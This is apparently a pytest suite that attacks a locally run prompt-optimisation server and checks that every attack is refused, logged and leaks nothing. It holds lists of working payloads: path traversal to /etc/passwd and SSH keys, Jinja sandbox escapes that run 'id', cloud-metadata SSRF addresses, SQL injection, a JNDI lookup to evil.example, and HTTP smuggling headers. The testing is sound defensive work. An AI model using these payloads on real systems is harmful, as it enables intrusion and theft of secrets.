"""Attacks on a server in a process of its own: each is refused with a 4xx, stands in the log, and is told nothing."""

from __future__ import annotations

import copy
import json
import socket
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from server_process import SUPPORT, ServerProcess, project

KEY = "sk-canary-0123456789abcdef"
SECRET = "canary-of-the-env-file"
SERVE = """
serve:
  hosts: [prompts.example.com]
  origins: [https://app.example.com]
  api_bases:
    - {url: "https://gateway.example.com/v1", api_key: "${env:OPENAI_API_KEY}"}
"""
pytestmark = [pytest.mark.slow, pytest.mark.no_cover]
TELLTALES = ("Traceback", 'File "', "site-packages", "sqlite3", "sqlalchemy", "root:x:0", "Error:", KEY, SECRET)
JSON = {"content-type": "application/json"}


class Target(ServerProcess):
    """A server with secrets around it, and what proves that an attack has failed."""

    def refused(self, answer: httpx.Response, *statuses: int) -> None:
        """The answer is a 4xx in the one form of errors, tells nothing, and its request stands in the log."""
        assert 400 <= answer.status_code < 500, f"{answer.request.content[:300]!r}: {answer.text[:300]}"
        assert not statuses or answer.status_code in statuses, answer.text
        assert answer.headers["content-type"] == "application/problem+json"
        assert isinstance(answer.json()["detail"], str)
        self.quiet(answer)
        request_id = answer.headers["x-request-id"]
        assert answer.json()["request_id"] == request_id
        deadline = time.monotonic() + 20
        while f'"request_id": "{request_id}"' not in self.logged():  # the line is written once the answer is out
            assert time.monotonic() < deadline, "the request does not stand in the log"
            time.sleep(0.01)

    def quiet(self, answer: httpx.Response) -> None:
        """Neither head nor body tell a secret, a path, or what the server is made of."""
        assert answer.status_code < 500, answer.text
        told = f"{answer.headers}\n{answer.text}"
        assert [word for word in (*TELLTALES, str(self.folder)) if word in told] == []
        assert "server" not in answer.headers
        assert not any("evil" in name.lower() for name in answer.headers)

    def logged(self) -> str:
        """The last of the server's log."""
        path = self.folder / ".promptprop" / "logs" / "promptprop.log"
        with path.open("rb") as file:
            file.seek(max(0, path.stat().st_size - 100_000))
            return file.read().decode("utf-8", "replace")

    def raw(self, request: bytes) -> bytes:
        """What comes back for these bytes, until the server closes or has answered."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=20) as wire:
            wire.sendall(request)
            found = b""
            while b"\r\n\r\n" not in found and (part := wire.recv(65_536)):
                found += part
            return found


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    base = tmp_path_factory.mktemp("attacked")
    folder = base / "project"
    folder.mkdir()
    project(folder)
    (base / "outside.jsonl").write_text(SECRET)
    (folder / ".env").write_text(f"ENV_SECRET={SECRET}\n")
    (folder / "link.jsonl").symlink_to(base / "outside.jsonl")
    (folder / "up").symlink_to(base)
    (folder / "serve.yaml").write_text(SERVE)
    environment = {"OPENAI_API_KEY": KEY, "HTTPS_PROXY": "http://127.0.0.1:9", "HTTP_PROXY": "http://127.0.0.1:9"}
    with Target(folder, "serve.yaml", "--workers", "0", env=environment) as server:
        with server.http() as client:
            server.begin(client)  # what an injection could take away, whichever tests run before
        yield server


@pytest.fixture
def http(target: Target) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=target.url, timeout=30, trust_env=False) as client:
        yield client


def asking(path: str, value: Any) -> dict[str, Any]:
    """The request for a run with one setting changed."""
    whole = copy.deepcopy(SUPPORT)
    below: Any = whole
    *way, last = path.split(".")
    for step in way:
        below = below[int(step)] if isinstance(below, list) else below.setdefault(step, {})
    below[int(last) if isinstance(below, list) else last] = value
    return {"config": whole}


def test_what_is_attacked_works(http: httpx.Client) -> None:
    answer = http.post("/api/v1/runs", json={"config": SUPPORT})
    assert answer.status_code == 202, answer.text


PATHS = (
    "../outside.jsonl",
    "/etc/passwd",
    ".env",
    ".promptprop/promptprop.db",
    "link.jsonl",
    "up/outside.jsonl",
    "datasets/../../outside.jsonl",
    "..\\outside.jsonl",
    "file:///etc/passwd",
    "datasets/\x00",
    "-",
    "~/.ssh/id_rsa",
    "%2e%2e/outside.jsonl",
    "\\\\host\\share",
    "x" * 5000,
)


@pytest.mark.parametrize(
    ("path", "shape"),
    [
        ("prompt", lambda text: {"file": text}),
        ("prompt", lambda text: [{"file": text}]),
        ("data.file", lambda text: text),
        ("data", lambda text: {"files": {"train": text}, "inputs": ["text"]}),
        ("models.task.world", lambda text: text),
        ("models.jury", lambda text: [{"model": "offline/juror", "world": text}]),
        ("metrics", lambda text: [{"type": "json_schema", "file": text}]),
        ("metrics", lambda text: [{"type": f"python:{text}:f"}]),
        ("metrics", lambda text: [{"type": "python", "function": text}]),
        ("roles.critic.template", lambda text: text),
        ("extends", lambda text: text),
        ("output", lambda text: text),
        ("database", lambda text: {"url": f"sqlite:///{text}"}),
        ("tracking.mlflow", lambda text: {"uri": text}),
        ("data", lambda text: {"dataset": text}),
    ],
)
def test_no_field_leads_to_another_file(path: str, shape: Any, target: Target, http: httpx.Client) -> None:
    for text in PATHS:
        asked = asking(path, shape(text))
        target.refused(http.post("/api/v1/runs", json=asked), 422)
        target.refused(http.post("/api/v1/runs", json={"yaml": json.dumps(asked["config"])}), 422)
    assert not (target.folder.parent / "out").exists()


def test_to_check_and_to_plan_a_configuration_reads_no_other_file_either(target: Target, http: httpx.Client) -> None:
    for text in PATHS:
        asked = asking("prompt", {"file": text})
        target.refused(http.post("/api/v1/configs/plan", json=asked), 422)
        target.refused(http.post("/api/v1/checks", json=asked), 422)
        answer = http.post("/api/v1/configs/validate", json=asked)
        target.quiet(answer)
        assert (answer.status_code, answer.json()["valid"]) == (200, False)


def test_no_reference_to_a_prompt_is_a_file_or_a_revision(target: Target, http: httpx.Client) -> None:
    for text in (*PATHS[:-1], "serve.yaml", "git:HEAD:.env", "git:--output=x:y", "latest@../../.env", "../x:winner"):
        target.refused(http.post("/api/v1/checks", json={"config": SUPPORT, "baseline": text}))
        target.refused(http.get("/api/v1/prompts/diff", params={"from": text, "to": text}))
        target.refused(http.get("/api/v1/compare", params={"a": text, "b": text}))
        named = asking("name", text)
        target.refused(http.post("/api/v1/checks", json=named))


def test_no_path_of_a_request_leads_to_a_file(target: Target, http: httpx.Client) -> None:
    for path in (
        "/..%2f..%2fetc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/.env",
        "/.promptprop/promptprop.db",
        "/etc/passwd",
        "/static/..%2f..%2f.env",
        "//evil.example/x",
        "/api/v1/runs/..%2f..%2f.env",
        "/api/v1/runs/%00",
        "/api/v1/prompts/..%2f.env/versions",
        "/api/dataset/..%2f.env",
        "/api/experiments/..%2f.env",
    ):
        target.refused(http.get(path), 400, 404, 422)
    for line in (b"GET /../../etc/passwd HTTP/1.1", b"GET ../.env HTTP/1.1", b"GET file:///etc/passwd HTTP/1.1"):
        head = target.raw(line + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        assert head.startswith((b"HTTP/1.1 400", b"HTTP/1.1 404"))


@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "127.0.0.1.nip.io", "169.254.169.254", "localhost@evil.example"]
)
def test_a_name_that_is_made_to_lead_here_is_not_answered(host: str, target: Target, http: httpx.Client) -> None:
    for method, path in (("GET", "/api/v1/runs"), ("POST", "/api/v1/runs"), ("GET", "/"), ("POST", "/api/optimize")):
        target.refused(http.request(method, path, headers={"host": host}), 421)


def test_tricks_with_hosts_are_refused(target: Target) -> None:
    for head in (
        b"GET /api/v1/runs HTTP/1.1\r\n\r\n",
        b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
        b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost, evil.example\r\n\r\n",
        b"GET /api/v1/runs HTTP/1.1\r\nHost : localhost\r\n\r\n",
        b"GET /api/v1/runs HTTP/1.0\r\n\r\n",
        b"GET http://evil.example/api/v1/runs HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc",
        b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nX: a\x00b\r\n\r\n",
    ):
        status = target.raw(head).split(b" ", 2)[1]
        assert status.startswith(b"4"), head


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "http://localhost:3000.evil.example", "http://localhost"]
)
def test_pages_of_other_origins_reach_nothing(origin: str, target: Target, http: httpx.Client) -> None:
    before = http.get("/api/v1/runs").json()["items"]
    for method, path in (
        ("POST", "/api/v1/runs"),
        ("GET", "/api/v1/runs"),
        ("POST", "/api/optimize"),
        ("OPTIONS", "/api/v1/runs"),
    ):
        for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
            headers = {"origin": origin, "content-type": kind, "access-control-request-method": "POST"}
            answer = http.request(method, path, headers=headers, content=json.dumps({"config": SUPPORT}))
            target.refused(answer, 403)
            assert "access-control-allow-origin" not in answer.headers
    cross = http.post("/api/v1/runs", json={"config": SUPPORT}, headers={"sec-fetch-site": "cross-site"})
    target.refused(cross, 403)
    assert http.get("/api/v1/runs").json()["items"] == before


def test_a_form_that_a_page_can_send_without_asking_is_no_request(target: Target, http: httpx.Client) -> None:
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        answer = http.post("/api/v1/runs", content=json.dumps({"config": SUPPORT}), headers={"content-type": kind})
        target.refused(answer, 415, 422)


def test_guessing_tokens_is_limited(target: Target) -> None:
    transport = httpx.HTTPTransport(local_address="127.0.0.2")  # an address of its own: others go on
    with httpx.Client(base_url=target.url, transport=transport, timeout=30) as client:
        found = [
            client.get("/api/v1/runs", headers={"authorization": f"Bearer pp_{number:043d}"}) for number in range(14)
        ]
        assert [answer.status_code for answer in found[:10]] == [401] * 10
        assert {answer.status_code for answer in found[11:]} == {429}
        assert int(found[-1].headers["retry-after"]) >= 1
        for answer in found:
            target.refused(answer)
        target.refused(client.post("/api/v1/runs", headers={"authorization": "Bearer x"}), 429)
    assert "pp_000" not in target.logged()


@pytest.mark.parametrize(
    "given", ["Basic YTpi", "Bearer", "bearer x", "Token x", "x", "Bearer \xe4", "Bearer a, Bearer b"]
)
def test_a_header_that_is_no_token_is_no_way_in(given: str, target: Target) -> None:
    transport = httpx.HTTPTransport(local_address="127.0.0.3")
    with httpx.Client(base_url=target.url, transport=transport, timeout=30) as client:
        headers = httpx.Headers([("authorization", given.encode("latin-1"))], encoding="latin-1")  # type: ignore[list-item]
        target.refused(client.get("/api/v1/runs", headers=headers), 401)


def test_whoever_was_forwarded_is_not_this_machine(target: Target, http: httpx.Client) -> None:
    for name in ("x-forwarded-for", "forwarded", "x-real-ip"):
        target.refused(http.get("/api/v1/runs", headers={name: "127.0.0.1"}), 401)


OPEN = {"/healthz", "/readyz", "/health-check"}
STRANGER = {"x-forwarded-for": "203.0.113.7"}


def operations(http: httpx.Client) -> list[tuple[str, str]]:
    """Every method and path of the API, filled with names of nothing."""
    document = http.get("/api/v1/openapi.json").json()
    return [
        (method.upper(), path.replace("{", "no-").replace("}", ""))
        for path, found in document["paths"].items()
        for method in found
    ]


def test_a_stranger_without_a_token_gets_no_further_than_the_door(target: Target, http: httpx.Client) -> None:
    found = operations(http)
    assert len(found) > 30
    for method, path in found:
        if path not in OPEN:
            target.refused(http.request(method, path, headers={**STRANGER, **JSON}, content=b"{}"), 401)


def test_a_token_opens_what_its_scope_holds_and_no_more(target: Target, http: httpx.Client) -> None:
    made = {
        scope: http.post("/api/v1/tokens", json={"name": f"a-{scope}", "scope": scope}).json()
        for scope in ("read", "run")
    }
    reading = {"authorization": f"Bearer {made['read']['token']}"}
    running = {"authorization": f"Bearer {made['run']['token']}"}
    assert http.get("/api/v1/runs", headers=reading).status_code == 200
    for method, path in (("POST", "/api/v1/runs"), ("POST", "/api/v1/runs/latest/cancel"), ("POST", "/api/v1/prompts")):
        body = {"config": SUPPORT} if path.endswith("runs") else BODIES.get(path, {})
        target.refused(http.request(method, path, headers=reading, json=body), 403)
    for method, path in (("GET", "/api/v1/tokens"), ("GET", "/api/v1/audit"), ("DELETE", "/api/v1/runs/latest")):
        target.refused(http.request(method, path, headers=running), 403)
    target.refused(http.post("/api/v1/tokens", headers=running, json={"name": "x", "scope": "admin"}), 403)
    assert http.delete(f"/api/v1/tokens/{made['run']['id']}").status_code < 300
    target.refused(http.get("/api/v1/runs", headers=running), 401)
    answer = http.get("/api/v1/runs", headers=reading)
    assert answer.headers["cache-control"] == "no-store"
    for secret in (made["read"]["token"], made["run"]["token"]):
        assert secret not in target.logged()
        assert secret not in http.get("/api/v1/audit").text


def test_bodies_that_are_too_large_or_too_deep_are_refused(target: Target, http: httpx.Client) -> None:
    deep = b'{"config":' * 65 + b"1" + b"}" * 65
    for content in (deep, b"[" * 1_000_000, b'{"a":' * 500_000, b"[[[[" * 5_000):
        target.refused(http.post("/api/v1/runs", content=content, headers=JSON), 400)
    target.refused(http.post("/api/v1/runs", json=asking("models.task.params", {"x": [[[[]]]] * 30_000})), 422)
    target.refused(
        http.post("/api/v1/runs", content=json.dumps({"config": SUPPORT}).encode("utf-16"), headers=JSON), 400
    )
    target.refused(http.post("/api/v1/runs", content=b"\x1f\x8b", headers={**JSON, "content-encoding": "gzip"}), 415)
    head = b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    assert target.raw(head + b"Content-Length: 8000001\r\n\r\n").startswith(b"HTTP/1.1 413")
    assert target.raw(head + b"Content-Length: 99999999999999999999\r\n\r\n").startswith(b"HTTP/1.1 4")

    def endless() -> Iterator[bytes]:
        yield b'{"config": {"task": "'
        while True:
            yield b"x" * 100_000

    try:
        answer = http.post("/api/v1/runs", content=endless(), headers=JSON)
    except httpx.TransportError:
        return  # the server closed while the client was still sending
    target.refused(answer, 413)


ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ text.__init__.__globals__ }}",
    "{{ text|attr('__class__') }}",
    "{{ config }}{{ self.__init__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% import 'os' as os %}{{ os.system('id') }}",
    "{% include '/etc/passwd' %}",
    "{{ text.format(text) }}",
    "{{ text['__class__'] }}{{ ''['__class__'] }}",
    "{{ (text|map('attr', '__class__'))|list }}",
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{{ 'x' * 1000000000 }}",
    "{{ text|replace('', text)|replace('', text) }}{{ range(9**9) }}",
    "{% set x = text %}{% macro m() %}{% endmacro %}{{ m() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ text|safe|xmlattr }}",
    "{{ namespace(x=1) }}",
    "{{ " + "(" * 5000 + "text" + ")" * 5000 + " }}",
    "{% if text %}" * 200,
    "{{ text }}" * 9_999 + "{{ text",
)


def test_no_template_escapes(target: Target, http: httpx.Client) -> None:
    for text in ESCAPES:
        for prompt in (
            {"text": text},
            {"messages": [{"role": "system", "content": text}]},
            [{"text": "{{ text }}"}, text],
        ):
            target.refused(http.post("/api/v1/runs", json=asking("prompt", prompt)), 422)


ADDRESSES = (
    "http://169.254.169.254/latest/meta-data/",
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "http://0251.0376.0251.0376/",
    "http://[fd00:ec2::254]/",
    "http://[::ffff:169.254.169.254]/",
    "http://metadata.google.internal/",
    "http://127.0.0.1:8000",
    "http://localhost:11434/v1",
    "https://gateway.example.com@169.254.169.254/v1",
    "https://gateway.example.com.evil.example/v1",
    "https://gateway.example.com/v1/../admin",
    "https://gateway.example.com\\@evil.example/v1",
    "//169.254.169.254/",
    "file:///etc/passwd",
    "https://gateway.example.com/v1%2f..",
    "http://gateway.example.com/v1",
    "${env:OPENAI_API_KEY}",
    "https://evil.example/${env:OPENAI_API_KEY}",
)


def test_no_model_is_at_an_address_of_the_attackers(target: Target, http: httpx.Client) -> None:
    for address in ADDRESSES:
        for role in ("task", "rewriter", "critic", "manager", "synthesizer", "embed"):
            model = {"model": "openai/x", "api_base": address}
            target.refused(http.post("/api/v1/runs", json=asking(f"models.{role}", model)), 422)
        jurors = [{"model": "openai/x", "api_base": address}]
        target.refused(http.post("/api/v1/runs", json=asking("models.jury", jurors)), 422)
    for params in (
        {"api_base": "http://x"},
        {"base_url": "http://x"},
        {"extra_headers": {"a": "b"}},
        {"proxies": {}},
        {"api_key": "x"},
    ):
        target.refused(http.post("/api/v1/runs", json=asking("models.task.params", params)), 422)
    for address in ADDRESSES:
        found = http.post("/api/v1/models/ping", json={"model": "openai/x", "api_base": address})
        target.refused(found, 400, 422)
    for name in ("huggingface/http://169.254.169.254/", "openai/../x", "bedrock/x", "vertex_ai/x", "ollama/x"):
        target.refused(http.post("/api/v1/runs", json=asking("models.task.model", name)), 422)
        page = {"model": name, "taskDescription": "t", "promptTemplate": "p", "query": "q"}
        target.refused(http.post("/api/inference", json=page), 422)
        target.refused(http.post("/api/v1/models/ping", json={"model": name}), 422)


def test_no_setting_tells_what_the_environment_holds(target: Target, http: httpx.Client) -> None:
    for path in (
        "task",
        "name",
        "prompt.text",
        "models.task.model",
        "models.task.api_key",
        "models.task.params.stop",
        "metrics.0.type",
    ):
        target.refused(http.post("/api/v1/runs", json=asking(path, "${env:OPENAI_API_KEY}")), 422)


INJECTIONS = (
    "'; DROP TABLE runs; --",
    '" OR 1=1 --',
    "%' UNION SELECT * FROM api_tokens --",
    "a\r\nX-Evil: 1\r\n\r\n<script>",
    "\x00",
    "\U0001f600" * 60,
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "$(id)",
    "`id`",
    "\x1b]0;evil\x07",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "null",
    "[]",
    "\u202e\u0000",
)


def test_injections_in_every_query_parameter_and_path_find_nothing(target: Target, http: httpx.Client) -> None:
    document = http.get("/api/v1/openapi.json").json()
    tried = 0
    for path, operations in document["paths"].items():
        for parameter in [*operations.get("get", {}).get("parameters", ())]:
            filled = path if parameter["in"] == "path" else path.replace("{", "x").replace("}", "")
            for text in INJECTIONS:
                if parameter["in"] == "query":
                    answer = http.get(filled, params={parameter["name"]: text})
                elif parameter["in"] == "header":
                    plain = "".join(char for char in text if " " <= char < "\x7f")
                    answer = http.get(filled, headers={parameter["name"]: plain})
                else:
                    quoted = "".join(f"%{byte:02x}" for byte in text.encode())
                    named = filled.replace(f"{{{parameter['name']}}}", quoted)
                    answer = http.get(named.replace("{", "x").replace("}", ""))
                target.quiet(answer)
                tried += 1
    assert tried > 200
    assert http.get("/api/v1/runs").json()["items"], "the runs are still there"


def strings_below(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The ways to every text of a JSON value."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict | list):
        for step, below in value.items() if isinstance(value, dict) else enumerate(value):
            yield from strings_below(below, (*path, step))


def replaced(value: Any, path: tuple[Any, ...], text: str) -> Any:
    """The value with another text there."""
    whole = copy.deepcopy(value)
    below = whole
    for step in path[:-1]:
        below = below[step]
    below[path[-1]] = text
    return whole


BODIES: dict[str, Any] = {
    "/api/v1/runs": {
        "config": SUPPORT,
        "activity": "optimize",
        "cache": "off",
        "rows": ["r"],
        "dataset": "d",
        "split": "all",
    },
    "/api/v1/prompts": {"name": "n", "text": "t {{ x }}", "aliases": ["a"]},
    "/api/v1/tokens": {"name": "n", "scope": "read", "expires_at": "2030-01-01T00:00:00Z"},
    "/api/dataset": {
        "experimentId": "e",
        "rows": [{"query": "q", "expectedOutput": "x", "softNegatives": "s", "split": "train"}],
    },
    "/api/metrics": {
        "experimentId": "e",
        "iteration": 1,
        "results": [{"score": 1, "reasoning": "r"}],
        "promptText": "p",
    },
}


@pytest.mark.parametrize("path", BODIES)
def test_injections_in_every_text_of_a_body_do_nothing(path: str, target: Target, http: httpx.Client) -> None:
    for way in strings_below(BODIES[path]):
        for text in INJECTIONS:
            target.quiet(http.post(path, json=replaced(BODIES[path], way, text)))
    assert http.get("/api/v1/runs").json()["items"], "the runs are still there"


def test_ids_of_requests_and_keys_of_idempotency_inject_nothing(target: Target, http: httpx.Client) -> None:
    for text in ("a\tb", "<script>alert(1)</script>", "x" * 5000, "'; DROP TABLE runs; --"):
        answer = http.get("/api/v1/runs", headers={"x-request-id": text})
        target.quiet(answer)
        assert answer.headers["x-request-id"] != text
    target.refused(http.post("/api/v1/runs", json={"config": SUPPORT}, headers={"idempotency-key": "a b"}), 422)


def test_who_was_turned_away_stands_in_the_audit_log(target: Target, http: httpx.Client) -> None:
    target.refused(http.get("/api/v1/runs", headers={"host": "evil.example"}), 421)
    target.refused(http.get("/api/v1/runs", headers={"origin": "http://evil.example"}), 403)
    target.refused(http.get("/api/v1/runs", headers={"x-forwarded-for": "192.0.2.1"}), 401)
    made = http.post("/api/v1/tokens", json={"name": "audited"})
    first = http.get("/api/v1/audit", params={"limit": 1}).json()
    assert (made.status_code, first["items"][0]["request_id"]) == (201, made.headers["x-request-id"])
    rows, cursor = first["items"], first["next_cursor"]
    while cursor:  # of who was turned away a flood leaves out rows: those of this test, or those of others
        page = http.get("/api/v1/audit", params={"limit": 200, "cursor": cursor}).json()
        rows, cursor = rows + page["items"], page["next_cursor"]
    assert {401, 403, 421, 201} <= {row["status"] for row in rows}
    assert [word for word in TELLTALES if word in json.dumps(rows)] == []


def test_nothing_failed_inside_of_the_server(target: Target) -> None:
    logs = target.folder / ".promptprop" / "logs"
    logged = "".join(path.read_text(encoding="utf-8") for path in sorted(logs.iterdir()))
    assert '"status": 4' in logged
    assert '"status": 500' not in logged
    assert '"level": "ERROR"' not in logged
    assert KEY not in logged
    assert "Traceback" not in target.log.read_text(encoding="utf-8")
